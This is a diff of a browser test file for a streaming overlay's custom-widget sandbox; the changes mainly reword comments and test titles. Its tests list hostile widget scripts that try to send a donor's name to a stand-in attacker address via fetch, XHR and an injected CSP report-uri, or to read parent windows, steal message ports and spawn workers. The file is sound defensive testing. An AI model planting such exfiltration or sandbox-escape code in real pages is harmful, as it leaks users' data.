@@ -8,11 +8,11 @@ import { addCustomWidget, widgetFrame } from './support/customWidget.ts';
 import { type EvilServer, openEvilServer } from './support/evilServer.ts';
 import { expect, test } from './support/fixtures.ts';
 
-/* What a hostile widget tries in order to send a donor's name away, or to reach what is not its own (SPEC CUS-43). */
+/* Attempts of a hostile widget to send a donor's name away, or to reach what belongs to others (SPEC CUS-43). */
 
 test.use({ viewport: { width: 1_280, height: 720 } });
 
-/** Each is run by itself; what it throws is part of the attack. `EVIL` is an address that must hear nothing. */
+/** Each attack runs alone; what it throws is part of it. `EVIL` is an address that must receive nothing. */
 const attacks: Readonly<Record<string, string>> = {
   fetch: "fetch(EVIL + 'fetch?' + secret, { mode: 'no-cors' })",
   xhr: "const x = new XMLHttpRequest(); x.open('POST', EVIL + 'xhr'); x.send(secret)",
@@ -78,7 +78,7 @@ const attacks: Readonly<Record<string, string>> = {
     "document.head.append(Object.assign(document.createElement('meta'), { httpEquiv: 'Content-Security-Policy', content: \"img-src 'none'; report-uri \" + EVIL + 'report' })); new Image().src = 'data:,'",
 };
 
-/** What the widget must not be able to read; each is an expression that throws, or is empty. */
+/** What the widget must not be able to read: expressions that must throw or be empty. */
 const reads: Readonly<Record<string, string>> = {
   'the parent’s document': 'parent.document.body.innerHTML',
   'the parent’s address': 'parent.location.href',
@@ -115,7 +115,7 @@ const prelude = (server: EvilServer) => `
   }
 `;
 
-/** They leave the widget's document, which ends it. */
+/** These leave the widget's document, which ends it. */
 const leaving = [
   'document.write',
   'meta',
@@ -128,9 +128,9 @@ const leaving = [
   'the companion’s own page',
 ];
 
-test('[CUS-43] nothing that a widget knows reaches a socket, whatever the widget tries', async ({ product, openOverlay }) => {
+test('[CUS-43] no data of a widget reaches a socket, whatever the widget tries', async ({ product, openOverlay }) => {
   const html = '<p id="tried"></p>';
-  /** Events from then on are told to the widget. */
+  /** From `onWidgetLoad` on, the widget receives events. */
   const onLoad = "window.addEventListener('onWidgetLoad', () => (document.querySelector('#tried').textContent = '0'));";
   const staying = Object.entries(attacks).filter(([name]) => !leaving.includes(name));
   const all = `${prelude(evil)} ${onLoad}
@@ -164,7 +164,7 @@ test('[CUS-43] nothing that a widget knows reaches a socket, whatever the widget
   for (const index of leaving.keys()) await expect(widgetFrame(overlay, `leaving-${index}`).locator('#tried')).toHaveText('0');
   await donate(product, { amount: 25, donorName: 'Ada Secret' });
   await expect(widgetFrame(overlay).locator('#tried')).toHaveText(String(staying.length));
-  // Those that reach another document end with it; the others are refused and stay, a pressed link among them (SPEC CUS-95).
+  // Attacks that reach another document end with it. The others are refused and stay, including a pressed link (SPEC CUS-95).
   await expect.poll(() => overlay.locator('iframe.frame').count()).toBeLessThan(6);
   expect(evil.heard).toEqual([]);
   expect(overlay.url()).toBe(address);
@@ -187,7 +187,7 @@ test('[CUS-43] a widget reads nothing of the overlay, of other widgets or of OBS
   await expect(widgetFrame(overlay).locator('#got')).toHaveText('[]');
 });
 
-test('[CUS-40] [CUS-43] a widget that replaces the functions of its window gets no hold of its port', async ({ product, openOverlay }) => {
+test('[CUS-40] [CUS-43] a widget that replaces its window’s functions does not get its port', async ({ product, openOverlay }) => {
   const js = `
     const listen = EventTarget.prototype.addEventListener;
     let stolen = 0;
@@ -209,11 +209,11 @@ test('[CUS-40] [CUS-43] a widget that replaces the functions of its window gets 
   `;
   await addCustomWidget(product, { html: '<p id="stolen"></p>', js });
   const overlay = await openOverlay();
-  // By then it has been pinged twice.
+  // It has been pinged twice by then.
   await expect(widgetFrame(overlay).locator('#stolen')).toHaveText('0');
 });
 
-test('[CUS-47] no script of a widget runs in a frame within its own, where nothing is counted', async ({ product, openOverlay }) => {
+test('[CUS-47] no script of a widget runs in a nested frame, where nothing is counted', async ({ product, openOverlay }) => {
   const html = `<p id="ran">no</p><script>
     if (parent !== top) parent.postMessage('ran', '*');
     else {
@@ -231,7 +231,7 @@ test('[CUS-47] no script of a widget runs in a frame within its own, where nothi
   await expect(widgetFrame(overlay).locator('#ran[data-loaded=yes]')).toHaveText('no');
 });
 
-test('[CUS-43] a widget reaches no other widget by the window above both', async ({ product, openOverlay }) => {
+test('[CUS-43] a widget reaches no other widget through their common parent window', async ({ product, openOverlay }) => {
   await addCustomWidget(product, {
     html: '<p id="heard">nothing</p>',
     js: "addEventListener('message', ({ data }) => data === 'neighbour' && (document.querySelector('#heard').textContent = data));",
@@ -250,7 +250,7 @@ test('[CUS-43] a widget reaches no other widget by the window above both', async
   await expect(widgetFrame(overlay).locator('#heard')).toHaveText('nothing');
 });
 
-test('[CUS-43] a widget names no host to a resolver', async ({ product, obs }, testInfo) => {
+test('[CUS-43] a widget makes no resolver look up a host', async ({ product, obs }, testInfo) => {
   const log = testInfo.outputPath('net-log.json');
   const executablePath = await obsChromium(obs);
   const browser = await chromium.launch({
@@ -285,16 +285,16 @@ test('[CUS-43] a widget names no host to a resolver', async ({ product, obs }, t
   const tried = widgetFrame(overlay).locator('#tried');
   await expect(tried).toHaveText('all');
   await tried.dispatchEvent('click');
-  // It has left.
+  // The widget's document is gone.
   await expect(overlay.locator('iframe.frame')).toHaveCount(0);
-  await overlay.goto('http://heard.example/').catch(() => {}); // there is no such host, and the log says that it was looked up
+  await overlay.goto('http://heard.example/').catch(() => {}); // the log must contain this lookup of a missing host
   await browser.close();
   const hosts = await readFile(log, 'utf8');
   expect(hosts).toContain('heard.example');
   expect(hosts).not.toContain('evil.example');
 });
 
-test('[CUS-47] a widget gets no thread of its own, and so many contexts of sound at most', async ({ product, openOverlay }) => {
+test('[CUS-47] a widget gets no worker, and only a limited number of audio contexts', async ({ product, openOverlay }) => {
   const js = `
     const code = URL.createObjectURL(new Blob(['postMessage(1); for (;;);'], { type: 'text/javascript' }));
     const own = new URL('script-0.js', location.href).href;
@@ -323,13 +323,13 @@ test('[CUS-47] a widget gets no thread of its own, and so many contexts of sound
   await expect(widgetFrame(overlay).locator('#got')).toHaveText('[] few');
 });
 
-test('[CUS-47] the policy alone refuses workers, also where their names are there', async ({ product, openOverlay }) => {
+test('[CUS-47] the policy alone refuses workers, even if their constructors exist', async ({ product, openOverlay }) => {
   await addCustomWidget(product, { html: '<p id="alive">alive</p>' });
   const overlay = await openOverlay();
   await expect(widgetFrame(overlay).locator('#alive')).toBeVisible();
   const frame = overlay.frames().find((one) => one.url().includes('/widget/'));
-  if (!frame) throw new Error('the overlay has no frame of a widget');
-  // A world of its own has the names that were taken from the widget's, and the same policy.
+  if (!frame) throw new Error('the overlay has no widget frame');
+  // An isolated world has the names that were removed from the widget's world, and the same policy.
   const devtools = await overlay.context().newCDPSession(frame);
   const { frameTree } = await devtools.send('Page.getFrameTree');
   const { executionContextId: contextId } = await devtools.send('Page.createIsolatedWorld', { frameId: frameTree.frame.id });
